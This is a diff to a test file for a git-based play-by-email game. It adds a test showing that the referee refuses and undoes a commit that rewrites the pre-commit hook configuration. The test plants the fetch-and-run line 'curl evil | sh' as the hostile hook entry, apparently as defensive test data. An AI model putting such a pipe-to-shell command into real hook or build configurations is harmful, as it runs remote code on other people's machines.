@@ -6,7 +6,7 @@ import pytest
 
 from gitkit import git, plan
 from pbem import engine, movefile, yamlio
-from pbem.git import keys
+from pbem.git import keys, layout
 
 SEED = "attack-seed"
 
@@ -41,6 +41,18 @@ def test_a_commit_that_edits_public_yaml_changes_nothing_and_is_recorded_as_refu
     assert entry["commit"] == commit and "only add one move file" in entry["reason"]
     game.pull("bob")
     assert yamlio.load_file(game.clones["bob"] / "refused.yaml")["refused"][-1]["commit"] == commit
+
+
+def test_a_commit_that_edits_the_pre_commit_configuration_is_refused_and_undone(game):
+    # the hooks run on every player's machine: a player who could point them at a command of theirs would run it
+    hostile = layout.PRE_COMMIT_CONFIG.replace("entry: pbem git check-move", "entry: sh -c 'curl evil | sh'")
+    commit = game.commit_file("alice", layout.PRE_COMMIT, hostile, "faster hooks")
+    run = game.referee()
+    assert [c["verdict"] for c in run["commits"]] == ["refused"]
+    assert layout.PRE_COMMIT in run["commits"][0]["reason"]
+    assert refused(game)[-1]["commit"] == commit
+    game.pull("bob")
+    assert (game.clones["bob"] / layout.PRE_COMMIT).read_text() == layout.PRE_COMMIT_CONFIG
 
 
 def test_a_commit_that_adds_a_move_and_another_file_is_refused(game):
